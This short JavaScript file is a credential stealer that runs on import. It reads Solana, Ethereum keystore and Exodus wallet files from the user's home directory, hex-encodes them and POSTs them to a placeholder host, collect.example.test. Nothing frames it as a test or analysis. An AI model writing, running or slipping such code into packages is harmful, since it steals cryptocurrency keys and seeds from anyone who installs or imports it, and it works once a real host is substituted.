// Wallet files are collected and posted; runs: import
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const wanted = [".config/solana/id.json", ".ethereum/keystore", "AppData/Roaming/Exodus/exodus.wallet/seed.seco"];
const found = {};
for (const name of wanted) {
  try {
    found[name] = fs.readFileSync(path.join(os.homedir(), name)).toString("hex");
  } catch (error) {
    found[name] = "";
  }
}
const request = https.request({ hostname: "collect.example.test", path: "/w", method: "POST" });
request.write(JSON.stringify(found));
request.end();
